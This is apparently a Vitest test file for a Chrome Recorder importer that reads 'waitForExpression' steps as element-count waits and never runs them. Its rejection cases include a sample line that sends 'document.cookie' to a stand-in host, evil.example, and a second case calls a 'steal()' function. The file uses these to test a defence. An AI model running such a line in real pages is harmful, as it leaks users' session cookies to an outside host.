import { describe, expect, it } from 'vitest';
import { expressionAsWait } from '../../../src/workflows/chrome-recorder/expression-wait';
import { workflowFromChromeRecording } from '../../../src/workflows/chrome-recorder/import';

describe('waitForExpression read as a count of elements, never run', () => {
  it.each([
    ['document.querySelectorAll("custom-element").length === 2', { selector: 'custom-element', operator: '==', count: 2 }],
    ["document.querySelectorAll('li.done').length >= 3;", { selector: 'li.done', operator: '>=', count: 3 }],
    ['document.querySelectorAll("li").length > 0', { selector: 'li', operator: '>=', count: 1 }],
    ['document.querySelectorAll("li").length < 2', { selector: 'li', operator: '<=', count: 1 }],
    ['document.querySelector("#done") !== null', { selector: '#done', operator: '>=', count: 1 }],
    ['!!document.querySelector(\'[data-ready="1"]\')', { selector: '[data-ready="1"]', operator: '>=', count: 1 }],
    ['document.querySelector(".spinner") === null', { selector: '.spinner', operator: '==', count: 0 }],
  ])('%s', (expression, want) => {
    expect(expressionAsWait(expression)).toEqual(want);
  });

  it.each([
    'window.ready === true',
    'document.querySelectorAll("li").length != 2',
    'document.querySelectorAll("li").length === 2 && fetch("https://evil.example/?" + document.cookie)',
    'document.querySelector("a").click() || true',
    '(() => { steal(); return true })()',
  ])('leaves %s unrun and named', (expression) => {
    expect(expressionAsWait(expression)).toBeNull();
  });

  it('imports a counting expression as a wait on its selector, and names one it cannot read', () => {
    const flow = (expression: string) =>
      workflowFromChromeRecording({ title: 'w', steps: [{ type: 'navigate', url: 'https://shop.example/' }, { type: 'waitForExpression', expression }, { type: 'click', selectors: [['#go']], offsetX: 1, offsetY: 1 }] }, { id: 'wf-1', now: 1 });
    const ok = flow('document.querySelectorAll("custom-element").length === 2');
    expect(ok.ok).toBe(true);
    if (!ok.ok) return;
    const wait = ok.workflow.steps.find((s) => s.action.kind === 'wait');
    expect(wait?.recorder).toMatchObject({ selectors: [['custom-element']], wait: { operator: '==', count: 2, visible: true } });
    const other = flow('window.appReady');
    expect(other.ok && other.workflow.steps.some((s) => s.action.kind === 'wait')).toBe(false);
  });
});
